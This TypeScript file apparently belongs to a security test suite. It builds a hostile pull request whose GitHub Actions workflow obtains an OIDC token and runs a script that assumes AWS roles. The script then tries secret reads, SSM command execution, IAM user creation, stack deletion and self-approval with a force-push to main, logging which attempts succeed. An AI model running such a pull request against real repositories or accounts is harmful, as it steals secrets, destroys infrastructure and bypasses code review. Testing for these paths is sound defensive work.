/** Name of the file that the jobs of {@link hostilePullRequest} run; it lies beside `package.json`, so that it finds the packages. */
const SCRIPT = 'hostile.mjs';

/** What somebody with write access to the repository is after. */
export interface HostileAims {
  /** GitHub environments that jobs try to enter; an empty name is a job without one. */
  readonly githubEnvironments: readonly string[];
  /** ARNs of roles that every job tries to take. */
  readonly roles: readonly string[];
  readonly region: string;
  /** Names of secrets. */
  readonly secrets: readonly string[];
  readonly virtualInterfaceId: string;
  readonly stack: string;
}

/**
 * Files of a pull request whose `ci.yml` is its author's own: a job for each environment that takes what roles it gets and tries everything with them, and one
 * that approves the pull request and moves `main`.
 */
export function hostilePullRequest(aims: HostileAims): Record<string, string> {
  return { '.github/workflows/ci.yml': workflow(aims), [SCRIPT]: script(aims) };
}

/** Everything that went through, as the jobs told it: `ROLE ACTION`. */
export function gainsOf(log: string): string[] {
  return [...new Set([...log.matchAll(/GAINED (\S+ \S+)/g)].map(([, gain]) => gain!))].sort();
}

function workflow({ githubEnvironments }: HostileAims): string {
  return `name: ci
on: pull_request
permissions: {}
jobs:
  steal:
    strategy: { fail-fast: false, matrix: { environment: ${JSON.stringify(githubEnvironments)} } }
    runs-on: ubuntu-24.04
    environment: \${{ matrix.environment }}
    permissions: { contents: write, id-token: write, pull-requests: write }
    steps:
      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2
      - run: node ${SCRIPT}
        env:
          TOKEN: \${{ github.token }}
          PULL_REQUEST: \${{ github.event.pull_request.number }}
`;
}

function script({ roles, region, secrets, virtualInterfaceId, stack }: HostileAims): string {
  return `import { execFileSync } from 'node:child_process';
import * as sts from '@aws-sdk/client-sts';
import * as cloudformation from '@aws-sdk/client-cloudformation';
import * as directConnect from '@aws-sdk/client-direct-connect';
import * as ec2 from '@aws-sdk/client-ec2';
import * as iam from '@aws-sdk/client-iam';
import * as secretsManager from '@aws-sdk/client-secrets-manager';
import * as ssm from '@aws-sdk/client-ssm';

const region = ${JSON.stringify(region)};
const attempt = async (who, what, act) => {
  try {
    await act();
    console.log(\`GAINED \${who} \${what}\`);
  } catch (error) {
    console.log(\`refused \${who} \${what}: \${error.name} \${String(error.message).split('\\n')[0]}\`);
  }
};

const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: bearer } = process.env;
const { value: WebIdentityToken } = await (await fetch(\`\${url}&audience=sts.amazonaws.com\`, { headers: { authorization: \`Bearer \${bearer}\` } })).json();
for (const RoleArn of ${JSON.stringify(roles)}) {
  const role = RoleArn.split('/').at(-1);
  let credentials;
  await attempt(role, 'sts:AssumeRoleWithWebIdentity', async () => {
    const { Credentials: { AccessKeyId: accessKeyId, SecretAccessKey: secretAccessKey, SessionToken: sessionToken } } =
      await new sts.STSClient({ region, maxAttempts: 1 }).send(new sts.AssumeRoleWithWebIdentityCommand({ RoleArn, RoleSessionName: 'ci', WebIdentityToken }));
    credentials = { accessKeyId, secretAccessKey, sessionToken };
  });
  if (!credentials) continue;
  const given = { region, credentials, maxAttempts: 1 };
  const clients = { cloudformation: new cloudformation.CloudFormationClient(given), directconnect: new directConnect.DirectConnectClient(given), ec2: new ec2.EC2Client(given),
    iam: new iam.IAMClient(given), secretsmanager: new secretsManager.SecretsManagerClient(given), ssm: new ssm.SSMClient(given), sts: new sts.STSClient(given) };
  const call = (service, command) => attempt(role, \`\${service}:\${command.constructor.name.replace('Command', '')}\`, () => clients[service].send(command));
  await call('directconnect', new directConnect.DescribeVirtualInterfacesCommand({ virtualInterfaceId: ${JSON.stringify(virtualInterfaceId)} }));
  await call('ec2', new ec2.DescribeVpnConnectionsCommand({}));
  await call('ec2', new ec2.DescribeInstanceAttributeCommand({ InstanceId: 'i-0123456789abcdef0', Attribute: 'userData' }));
  await call('ec2', new ec2.CreateVpcCommand({ CidrBlock: '10.9.0.0/24' }));
  for (const SecretId of ${JSON.stringify(secrets)}) await call('secretsmanager', new secretsManager.GetSecretValueCommand({ SecretId }));
  await call('ssm', new ssm.SendCommandCommand({ DocumentName: 'AWS-RunPowerShellScript', Targets: [{ Key: 'tag:Name', Values: ['*'] }], Parameters: { commands: ['whoami'] } }));
  await call('iam', new iam.CreateUserCommand({ UserName: 'mallory' }));
  await call('cloudformation', new cloudformation.DeleteStackCommand({ StackName: ${JSON.stringify(stack)} }));
  await call('cloudformation', new cloudformation.CreateStackCommand({ StackName: 'mallory', TemplateBody: '{"Resources":{"Topic":{"Type":"AWS::SNS::Topic"}}}' }));
  await call('cloudformation', new cloudformation.UpdateTerminationProtectionCommand({ StackName: ${JSON.stringify(stack)}, EnableTerminationProtection: false }));
  for (const next of ${JSON.stringify(roles)}.filter((arn) => arn !== RoleArn)) {
    await call('sts', new sts.AssumeRoleCommand({ RoleArn: next, RoleSessionName: 'ci' }));
  }
}

const api = \`\${process.env.GITHUB_API_URL}/repos/\${process.env.GITHUB_REPOSITORY}\`;
const github = (path, body) => async () => {
  const answer = await fetch(api + path, { method: 'POST', headers: { authorization: \`Bearer \${process.env.TOKEN}\`, 'content-type': 'application/json' }, body: JSON.stringify(body) });
  if (!answer.ok) throw new Error(\`\${answer.status} \${(await answer.json()).message}\`);
};
await attempt('job', 'approves', github(\`/pulls/\${process.env.PULL_REQUEST}/reviews\`, { event: 'APPROVE' }));
await attempt('job', 'opens', github('/pulls', { title: 'mine', head: process.env.GITHUB_HEAD_REF, base: 'main' }));
await attempt('job', 'pushes', () => execFileSync('git', ['push', '--force', 'origin', 'HEAD:refs/heads/main'], { stdio: 'pipe' }));
`;
}
